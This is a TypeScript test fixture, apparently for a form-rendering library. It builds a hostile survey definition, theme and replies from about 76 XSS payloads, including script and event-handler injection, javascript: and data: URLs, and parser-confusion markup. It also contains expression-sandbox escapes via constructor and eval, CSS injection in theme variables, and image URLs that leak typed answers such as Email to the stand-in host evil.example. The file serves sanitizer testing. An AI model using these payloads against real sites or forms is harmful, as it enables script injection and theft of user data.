/**
 * A form, its theme and its replies that try to run, to call home, to lead away or to change the look of the page, in 76 ways; a
 * script that runs writes its number into `pwned`. For tests only.
 */

/** Every foreign address lies here; nothing may be asked of it. */
export const hostileOrigin = 'https://evil.example';

interface Tools {
  /** What a script does: no quotes, no blanks. */
  readonly run: string;
  readonly url: string;
}

/** What it tries, and how. */
type Attempt = readonly [name: string, write: (tools: Tools) => string];

const running: readonly Attempt[] = [
  ['a script', ({ run }) => `<script>${run}</script>`],
  ['a script from elsewhere', ({ url }) => `<script src="${url}"></script>`],
  ['a script in pieces', ({ run }) => `<scr<script></script>ipt>${run}</script>`],
  ['a picture that fails', ({ run }) => `<img src=x onerror=${run}>`],
  ['a picture without blanks', ({ run }) => `<img/src=x/onerror=${run}>`],
  ['a drawing', ({ run }) => `<svg onload=${run}></svg>`],
  ['an animation', ({ run }) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`],
  ['a script of a drawing', ({ run }) => `<svg><script>${run}</script></svg>`],
  ['a foreign object', ({ run }) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`],
  [
    'a formula that changes the parser',
    ({ run }) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  ],
  ['no script', ({ run }) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`],
  ['a template', ({ run }) => `<template><img src=x onerror=${run}></template>`],
  ['a title that ends', ({ run }) => `<title><a title="</title><img src=x onerror=${run}>">`],
  ['a comment that ends', ({ run }) => `<!--><img src=x onerror=${run}>-->`],
  ['a field with the focus', ({ run }) => `<input autofocus onfocus=${run}>`],
  ['a paragraph with the focus', ({ run }) => `<p tabindex=0 autofocus onfocus=${run}>p</p>`],
  ['details', ({ run }) => `<details open ontoggle=${run}><summary>s</summary>d</details>`],
  ['a marquee', ({ run }) => `<marquee onstart=${run}>m</marquee>`],
  ['a film', ({ run }) => `<video><source src=x onerror=${run}></video>`],
  ['a sound', ({ run }) => `<audio src=x onerror=${run}></audio>`],
  ['an object', ({ run }) => `<object data="javascript:${run}"></object>`],
  ['an embedded page', ({ run }) => `<embed src="javascript:${run}">`],
  ['a frame', ({ run }) => `<iframe src="javascript:${run}"></iframe>`],
  ['a frame with its page', ({ run }) => `<iframe srcdoc="<script>${run}</script>"></iframe>`],
  ['a link', ({ run }) => `<a href="javascript:${run}">link</a>`],
  ['a link in entities', ({ run }) => `<a href="jav&#x09;ascript&colon;${run}">link</a>`],
  ['a link to a page in itself', ({ run }) => `<a href="data:text/html,<script>${run}</script>">link</a>`],
  ['a form', ({ run }) => `<form action="javascript:${run}"><button>b</button></form>`],
  ['the beginning of an animation', ({ run }) => `<p style="animation:k 1s" onanimationstart=${run}>p</p>`],
  ['the body', ({ run }) => `<body onload=${run} onpageshow=${run}>b</body>`],
  ['the end of an attribute', ({ run }) => `"><img src=x onerror=${run}>`],
  ['the end of the other attribute', ({ run }) => `' autofocus onfocus='${run}' x='`],
  ['names of the page’s own', () => '<form id=body><input name=attributes><img name=getElementById></form>'],
];

const calling: readonly Attempt[] = [
  ['a picture without a scheme', ({ url }) => `<img src="${url.replace('https:', '')}">`],
  ['a set of pictures', ({ url }) => `<img srcset="${url} 1x">`],
  ['a picture of many sources', ({ url }) => `<picture><source srcset="${url}"><img></picture>`],
  ['a poster', ({ url }) => `<video poster="${url}"></video>`],
  ['a sheet', ({ url }) => `<link rel=stylesheet href="${url}">`],
  ['something fetched ahead', ({ url }) => `<link rel=prefetch href="${url}">`],
  ['another page after a while', ({ url }) => `<meta http-equiv=refresh content="0;url=${url}">`],
  ['another base', ({ url }) => `<base href="${url}/">`],
  ['an import', ({ url }) => `<style>@import url(${url});</style>`],
  ['a background', ({ url }) => `<p style="background:url(${url})">p</p>`],
  ['a background of old', ({ url }) => `<table background="${url}"><tr><td>t</td></tr></table>`],
  ['a picture in a drawing', ({ url }) => `<svg><image href="${url}" width=9 height=9></image></svg>`],
  ['a part of a drawing', ({ url }) => `<svg><use href="${url}#a"></use></svg>`],
  ['a button that is a picture', ({ url }) => `<input type=image src="${url}">`],
  ['a frame of elsewhere', ({ url }) => `<iframe src="${url}"></iframe>`],
  ['an object of elsewhere', ({ url }) => `<object data="${url}"></object>`],
  ['subtitles', ({ url }) => `<video><track default src="${url}"></video>`],
];

const covering: readonly Attempt[] = [
  ['a sheet for everything', () => '<style>*{--leaked:1;color:red!important}</style>'],
  ['a layer over the page', () => '<div style="position:fixed;inset:0;z-index:9999;--leaked:1">cover</div>'],
  ['a class of the screen', () => '<p class="ew-root ew-hidden" id="root" slot="x">p</p>'],
];

/** Texts that would do harm as markup. */
export const hostileTexts: readonly { readonly name: string; readonly text: string }[] = [
  ...running,
  ...calling,
  ...covering,
].map(([name, write], at) => ({
  name,
  text: write({ run: `top.pwned=[top.pwned,${at}]`, url: `${hostileOrigin}/${at}` }),
}));

const far = `${hostileOrigin}/away`;
const call = 'top.pwned=[top.pwned,"expression"]';
const text = (name: string, more: Readonly<Record<string, unknown>>) => ({ type: 'text', name, ...more });

/** Each in a field of its own. */
const expressions: readonly Readonly<Record<string, unknown>>[] = [
  { visibleIf: `constructor.constructor('${call}')() notempty` },
  { enableIf: `{e0.constructor.constructor} notempty` },
  { defaultValueExpression: `constructor('${call}')` },
  { setValueExpression: `__proto__('${call}')` },
  { requiredIf: `toString('${call}')` },
  { resetValueIf: `eval('${call}')` },
  { visibleIf: `iif(1=1, propertyValue('e0', 'constructor'), 1) = 1` },
];

/** An answer as part of an address: whoever types would tell it to another site. */
const telling: readonly (readonly [name: string, element: Readonly<Record<string, unknown>>])[] = [
  ['a picture at an answer', { type: 'html', html: `<img src="${far}?{Email}">` }],
  ['a picture whose attribute is an answer', { type: 'html', html: `<img {src}="${far}?{Email}">` }],
  ['a picture in pieces', { type: 'html', html: `<img s{More}rc=${far}?{Email}>` }],
  ['a picture that is reckoned', { type: 'html', html: '{picture}' }],
  ['a signature that is reckoned', { type: 'signaturepad', setValueExpression: `'${far}?' + {Email}` }],
  ['choices by a tab', { type: 'dropdown', choicesByUrl: { url: '/\t/evil.example/away' } }],
];

/** How many ways there are to do harm. */
export const hostileWays: readonly string[] = [
  ...hostileTexts.map(({ name }) => name),
  ...expressions.map((one) => JSON.stringify(one)),
  ...telling.map(([name]) => name),
  'navigateToUrl',
  'navigateToUrlOnCondition',
  'completedHtml',
  'completedHtml with an answer',
  'logo',
  'backgroundImage',
  'imageLink',
  'choicesByUrl',
  'a name of a file',
  'five values of a theme',
];

/** Two pages: who one is, with all that is hostile, then Send. */
export function hostileLayout(): string {
  const texts = hostileTexts.map((one) => one.text);
  const [first = '', second = ''] = texts.slice(3);
  return JSON.stringify({
    title: first,
    description: second,
    logo: far,
    backgroundImage: far,
    navigateToUrl: 'javascript:top.pwned=1',
    navigateToUrlOnCondition: [{ expression: '1=1', url: far }],
    completedHtml: `<h4>Thank you, {First Name}</h4><img src="${far}?{Email}">${texts.join('')}`,
    calculatedValues: [
      { name: 'c', expression: `constructor.constructor('${call}')()` },
      { name: 'picture', expression: `'<img src=${far}?' + {Email} + '>'` },
    ],
    pages: [
      {
        name: first,
        title: first,
        description: second,
        elements: [
          text('First Name', { title: 'First Name', isRequired: true, requiredErrorText: first }),
          text('Email', { title: 'Email', inputType: 'email', isRequired: true }),
          text('Notes', { title: 'Notes', placeholder: first }),
          { type: 'file', name: 'Passport', title: 'Passport' },
          { type: 'radiogroup', name: 'Choices', choices: texts.map((one, value) => ({ value, text: one })) },
          { type: 'matrix', name: 'Table', rows: texts.slice(0, 6), columns: texts.slice(6, 12) },
          { type: 'boolean', name: 'Switch', labelTrue: first, labelFalse: second },
          { type: 'image', name: 'Image', imageLink: 'javascript:top.pwned=1' },
          { type: 'dropdown', name: 'Far', choicesByUrl: { url: far } },
          { type: 'panel', name: 'Panel', title: first, elements: [text(first, { description: second })] },
          ...texts.map((one, at) => text(`t${at}`, { title: one, description: one })),
          ...texts.map((one, at) => ({ type: 'html', name: `h${at}`, html: `<p>Markup ${at}.</p>${one}` })),
          ...expressions.map((more, at) => text(`e${at}`, more)),
          text('src', { visible: false, defaultValue: 'src' }),
          ...telling.map(([name, more]) => ({ name, ...more })),
        ],
      },
      { name: 'last', title: 'Last page', elements: [text('More', { title: 'More' })] },
    ],
  });
}

export const hostileTheme = JSON.stringify({
  backgroundImage: far,
  header: { backgroundImage: far },
  cssVariables: {
    '--sjs-general-backcolor': `url(${far})`,
    '--sjs-primary-backcolor': `red;background:url(${far})`,
    '--sjs-font-size': '1px}*{--leaked:1',
    '--sjs-border-default': String.raw`u\72l(${far})`,
    '--leaked': '1',
  },
});

/** Replies as texts, each with one hostile text as an answer, as a question and as the name of a file; then some that are broken. */
export function hostileReplies(): readonly string[] {
  const replies = hostileTexts.map((one, at) =>
    JSON.stringify({
      'First Name': one.text,
      Email: `hostile${at}@example.org`,
      [one.text]: [one.text, { [one.text]: one.text }],
      Passport: [
        {
          name: one.text,
          type: 'text/html',
          content: `data:text/html,<script>top.pwned=[top.pwned,${at}]</script>`,
        },
        { name: `${at}.svg`, type: 'image/svg+xml', content: `data:image/svg+xml,<svg onload=top.pwned=1>` },
        { name: 'a', type: 'image/png', content: `${far}.png` },
        { name: 'b', type: 'image/png', content: 'javascript:top.pwned=1' },
      ],
      Link: `javascript:top.pwned=[top.pwned,${at}]`,
    }),
  );
  return [...replies, ...hostileTexts.slice(0, 5).map((one) => `{broken ${one.text}`)];
}
